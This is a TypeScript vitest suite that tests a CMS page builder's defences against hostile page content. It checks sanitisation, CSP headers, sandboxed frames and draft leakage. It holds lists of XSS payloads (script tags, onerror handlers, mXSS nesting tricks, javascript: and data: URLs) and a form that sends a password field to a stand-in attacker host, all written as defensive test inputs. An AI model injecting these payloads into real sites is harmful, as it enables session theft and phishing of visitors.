import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { create, update } from '#platform/data/collection/write.ts'
import { bothDrivers } from '#platform/data/database/test-database.ts'
import { type Academy, openAcademy } from '../support/academy.ts'
import { sites } from '../support/cast.ts'
import { openPages, type Pages } from '../support/pages.ts'
import { seen } from '../support/reading.ts'

const drivers = await bothDrivers()
const contentHost = 'files.example.test'

type Block = [type: string, props: object]
const pageOf = (blocks: Block[]) => ({
  version: 1 as const,
  rows: [
    {
      id: 'r',
      columns: [
        {
          ...{ id: 'c', col: 12 },
          objects: blocks.map(([type, props], at) => ({ id: `o${at}`, type, version: 1, props })),
        },
      ],
    },
  ],
})

/** Attacks by page content (group F). */
describe.each(drivers)('hostile pages on $kind', (driver) => {
  let academy: Academy
  let pages: Pages
  let n = 0

  beforeAll(async () => {
    academy = await openAcademy(driver, undefined, { CONTENT_HOST: contentHost })
    pages = await openPages(academy)
  })
  afterAll(async () => {
    await pages.close()
    await academy.close()
  })

  /** Writes a page as an API client does. Returns the URL for visitors. */
  const written = async (post: object) => {
    const slug = `hostile-${++n}`
    const data = { type: 'page', slug, title: 'หน้า', status: true, ...post }
    const ask = (given: object) =>
      pages.ask({ viewer: academy.viewer('admin'), path: '/api/post', body: { data: given } })
    const { status, body } = await ask(data)
    const path = `/cms/page/${slug}`
    if (body.issues?.[0]?.code !== 'block') return { status, _id: body._id as string, path }
    // A block that the call refuses may still be in the table from an earlier version of the product.
    const bare = await ask({ ...data, builder: pageOf([]) })
    const _id = bare.body._id as string
    const { builder } = data as unknown as { builder: object }
    await sql`update post set builder = ${JSON.stringify(builder)}::jsonb where _id = ${_id}`.execute(
      academy.database.kysely,
    )
    return { status: bare.status, _id, path }
  }
  const read = async (path: string) => (await pages.open({ path })).text
  const main = (html: string) => /<main[\s\S]*<\/main>/.exec(seen(html))![0]

  const running = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">ก</a>',
    '<base href="https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div style="position:fixed;inset:0">ก</div>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror=alert(1)></template>',
    "<img src='//evil.example?",
    '<script nonce="guess">alert(1)</script>',
  ]

  test.each(running)(
    'F02 F03 F06 in a text, a raw block, a popup and a slide nothing runs or leads away: %s',
    async (html) => {
      const blocks: Block[] = [
        ['text', { html }],
        ['html', { html }],
        ['popup', { textContent: html }],
        ['slideshow', { slides: [{ image: '/seed/workshop.svg', content: html }] }],
      ]
      const { status, path, _id } = await written({ content: html, builder: pageOf(blocks) })
      expect(status).toBe(200)
      const shown = main(await read(path))
      expect(shown).not.toMatch(
        /alert\(1\)"|srcdoc|evil\.example|<(base|meta|form|script|object|embed|template|math)\b/i,
      )
      expect(shown, 'nothing is laid over the page').not.toMatch(/position\s*:\s*fixed/i)
      expect(shown.replaceAll(/"[^"]*"/g, '""')).not.toMatch(/\son\w+\s*=/i)
      // Content that is read and written again three times stays the same.
      for (let round = 0; round < 3; round++) {
        const one = { viewer: academy.viewer('admin'), path: `/api/post/${_id}` }
        const { data } = (await pages.ask({ ...one, method: 'GET' })).body
        await pages.ask({ ...one, method: 'PUT', body: { data: { content: data.content, builder: data.builder } } })
      }
      expect(main(await read(path))).toBe(shown)
    },
  )

  test('F02 scripts of a raw block run at the host of files alone, in a frame without an origin', async () => {
    const html = '<p id="x">ก</p><script>document.cookie</script>'
    const { path, _id } = await written({ builder: pageOf([['html', { html, scripts: true, height: 300 }]]) })
    const page = await pages.open({ path })
    expect(main(page.text)).not.toContain('document.cookie')
    const frame = /<iframe[^>]*>/.exec(page.text)![0]
    expect(frame).toContain('sandbox="allow-scripts allow-forms allow-popups"')
    const src = /src="([^"]+)"/.exec(frame)![1]!
    expect(String(page.headers['content-security-policy'])).toContain(
      `frame-src https://www.youtube-nocookie.com 'self' ${contentHost}`,
    )
    const here = await pages.open({ path: src })
    expect([here.status, here.headers['location']]).toEqual([302, `http://${contentHost}${src}`])
    const there = (at: string) => pages.open({ path: at, headers: { host: contentHost } })
    const framed = await there(src)
    expect([framed.status, framed.text]).toEqual([200, html])
    expect(framed.headers['content-security-policy']).toMatch(
      /^sandbox allow-scripts allow-forms allow-popups; default-src 'none';/,
    )
    expect(framed.headers['content-security-policy']).not.toContain('allow-same-origin')
    expect(framed.headers['x-frame-options']).toBeUndefined()
    expect(framed.headers['set-cookie']).toBeUndefined()
    // Its URL opens this block of this page of this site, with its present content.
    const mark = src.split('/').at(-1)!
    for (const forged of [
      src.replace(mark, `${mark.slice(0, -1)}${mark.endsWith('A') ? 'B' : 'A'}`),
      src.replace('/o0/', '/o1/'),
      src.replace(sites.skills._id, sites.factory._id),
      src.replace(_id, 'f'.repeat(24)),
    ])
      expect((await there(forged)).status, forged).toBe(404)
    for (const other of ['/', '/api/hostname', path, '/user/login'])
      expect((await there(other)).status, other).toBe(404)
    await update(academy.as('admin'), 'post', {
      _id,
      change: { builder: pageOf([['html', { html, scripts: false }]]) },
    })
    expect((await there(src)).status, 'its scripts were turned off').toBe(404)
    // A viewer of the page's versions sees its scripts only in the version that had them.
    const frameOf = async (number: number) => {
      const shown = await pages.open({ path: `/cms/builder/${_id}/frame/${number}`, viewer: academy.viewer('admin') })
      return /src="(\/frame\/[^"]+)"/.exec(shown.text)?.[1]
    }
    const kept = (await frameOf(1))!
    expect(kept).toMatch(/\?version=1$/)
    expect((await there(kept)).text).toBe(html)
    expect(await frameOf(2)).toBeUndefined()
    for (const forged of [kept.replace('version=1', 'version=2'), kept.replace('?version=1', ''), `${src}?version=1`])
      expect((await there(forged)).status, forged).toBe(404)
    for (const wrong of ['version=1&version=1', 'version=-1', 'version=1.5', 'version=1e0'])
      expect((await there(kept.replace('version=1', wrong))).status, wrong).toBe(404)
  })

  test('F04 what is written into a page cannot end the script that carries it, nor a comment', async () => {
    const title = `</script><script>alert(1)</script><!-- \u2028 ${'`'}`
    const { path } = await written({ title, builder: pageOf([['heading', { text: title, level: 2 }]]) })
    const page = await read(path)
    expect(page).not.toContain('<script>alert(1)')
    expect(page).toContain('&lt;script&gt;alert(1)')
  })

  test('F05 F22 every page has a policy that lets only its own scripts run, and no other site frame it', async () => {
    const open = ['/', '/user/login', '/member/login', (await written({})).path, '/no/such/page']
    const office = ['/lesson/dashboard', '/cms/pages', '/config/general', '/user/add'].map((path) => ({
      ...{ path, viewer: academy.viewer('admin') },
    }))
    for (const asked of [...open.map((path) => ({ path })), ...office]) {
      const { path } = asked
      const { headers, text } = await pages.open(asked)
      const policy = String(headers['content-security-policy'])
      const [, scripts] = /script-src ([^;]*)/.exec(policy)!
      expect(scripts, path).toMatch(/^'self'( 'sha256-[\w+/=]+')*$/)
      for (const part of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'self'", "form-action 'self'"])
        expect(policy, path).toContain(part)
      expect(headers['x-frame-options'], path).toBe('SAMEORIGIN')
      expect(text, path).not.toContain('nonce=')
    }
  })

  test('F05 the host of a film adds no directive to the policy of its page', async () => {
    const hosts = ['films.example;sandbox', 'films.example;script-src', 'films.example:8443']
    const films = hosts.map((host) => ['video', { title: '', url: `https://${host}/a.mp4`, text: '' }])
    const { path } = await written({ builder: pageOf(films as Block[]) })
    const policy = String((await pages.open({ path })).headers['content-security-policy'])
    expect(policy).toContain("media-src 'self' blob:")
    expect(policy).toContain('https://films.example:8443;')
    expect(policy.split(';').map((directive) => directive.trim().split(' ')[0])).not.toContain('sandbox')
    expect(policy.match(/script-src/g)).toHaveLength(1)
  })

  const leading = [
    'javascript:alert(1)',
    ' \tjava\nscript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example/x',
    '/\\evil.example',
    'http://evil.example/x',
    'blob:https://evil.example/x',
  ]

  /** Returns a page of each block with a link. */
  const leadingTo = (link: string): Block[] => [
    ['image', { url: link, alt: '', link }],
    ['slideshow', { slides: [{ image: link, link, title: 'ก' }] }],
    ['popup', { contentType: 'video', videoUrl: link }],
    ['popup', { contentType: 'image', imageUrl: link }],
    ['pdf', { fileurl: link, filename: 'ก' }],
    ['news-ticker', { items: [{ text: 'ก', link }] }],
    ['youtube', { url: link }],
    ['access-check', { action: 'redirect', redirect: link }],
    ['text', { html: `<p><a href="${link.replaceAll('"', '&quot;')}">ก</a></p>` }],
  ]

  test('F07 F09 these blocks lead where they are told to as long as it is a harmless place', async () => {
    const isShown = async (block: Block) => {
      const { status, path } = await written({ builder: pageOf([block]) })
      expect(status, block[0]).toBe(200)
      const { text, headers } = await pages.open({ path })
      return `${String(headers['location'])} ${text}`.includes('good-place') || /dQw4w9WgXcQ/.test(text)
    }
    const good = leadingTo('/seed/good-place.png').filter(
      ([type, props]) => type !== 'youtube' && !('videoUrl' in props),
    )
    for (const block of [...good, ['youtube', { url: 'https://youtu.be/dQw4w9WgXcQ' }] as Block])
      expect(await isShown(block), block[0]).toBe(true)
  })

  test.each(leading)('F07 F09 no link, picture, film, file or menu of a page leads to %j', async (link) => {
    for (const [at, block] of leadingTo(link).entries()) {
      const { path } = await written({ builder: pageOf([block]) })
      const answer = await pages.open({ path })
      const shown = answer.status === 302 ? String(answer.headers['location']) : main(answer.text)
      const leads = [...shown.matchAll(/(?:href|src|data-src|action|poster)="([^"]*)"/g)].map(([, to]) => to!)
      const hostile = leads.filter((to) => /script:|^data:text|^blob:|evil/i.test(to.replaceAll(/\s/g, '')))
      // A text may link to http, which does not endanger its reader.
      expect(
        link.startsWith('http:') ? hostile.filter(() => block[0] !== 'text') : hostile,
        `${block[0]} ${at}`,
      ).toEqual([])
      if (answer.status === 302) expect(shown).not.toContain('evil')
    }
  })

  test('F07 a menu with such a target is refused, or leads nowhere', async () => {
    for (const target of leading) {
      const items = [{ title: 'ก', target, subMenu: [{ title: 'ข', target }] }]
      const { status, _id } = await written({ type: 'post', builder: { version: 1, items } })
      if (status !== 200) continue
      const { path } = await written({ builder: pageOf([['menu', { menu: _id }]]) })
      expect(main(await read(path)), target).not.toMatch(/href="[^"]*(?:script:|evil|data:|blob:)/i)
    }
  })

  test('F09 the watermark of a document is a text', async () => {
    const watermark = '<img src=x onerror=alert(1)>'
    const pdf = { fileurl: '/upload/1760000000000-aa.pdf', filename: watermark, watermark }
    const { path } = await written({ builder: pageOf([['pdf', pdf]]) })
    expect(main(await read(path))).not.toContain('<img src=x')
  })

  test('F14 a draft and a page that needs a log-in say nothing to a visitor, whichever way they are asked for', async () => {
    const secret = 'ดอกบัวหลวง'
    const builder = pageOf([['heading', { text: secret, level: 2 }]])
    const closed = { authen: await written({ authen: true, content: `<p>${secret}</p>`, builder }) }
    const all = { ...closed, draft: await written({ status: false, content: `<p>${secret}</p>`, builder }) }
    const parent = await written({ display: 'group' })
    const beneath = { type: 'post', parent: parent._id, content: `<p>${secret}</p>`, builder }
    await create(academy.as('admin'), 'post', { ...beneath, type: 'post', slug: 'hidden', title: 'ซ่อน', status: false })
    await create(academy.as('admin'), 'post', {
      ...beneath,
      type: 'post',
      slug: 'inside',
      title: 'ใน',
      status: true,
      authen: true,
    })
    const asked = [
      ...Object.values(all).flatMap(({ _id, path }) => [
        path,
        `${path}.data`,
        `/api/post/${_id}`,
        `${path}?_routes=cms-page`,
      ]),
      ...[parent.path, `${parent.path}/hidden`, `/cms/post/${parent.path.split('/').at(-1)}/hidden`],
      `/cms/post/${parent.path.split('/').at(-1)}/inside`,
      ...[`/lesson/search/${encodeURIComponent(secret.slice(0, 5))}`, '/sitemap.xml'],
      ...[`${parent.path}/feed`, `${parent.path}/feed.json`],
    ]
    const his = await pages.open({ path: closed.authen.path, viewer: academy.viewer('user') })
    expect(his.text, 'who is logged in reads it').toContain(secret)
    for (const path of asked) expect((await pages.open({ path })).text, path).not.toContain(secret)
    for (const body of [
      { method: 'find', args: [{}] },
      { method: 'find', args: [{ title: 'หน้า' }], hidden: [] },
    ])
      expect((await pages.ask({ path: '/api/post/query', body })).text).not.toContain(secret)
    const looked = { pipeline: [{ $match: { content: { $regex: secret } } }, { $count: 'n' }] }
    expect((await pages.ask({ path: '/api/post/aggregate', body: looked })).text).not.toMatch(/[1-9]/)
  })
})
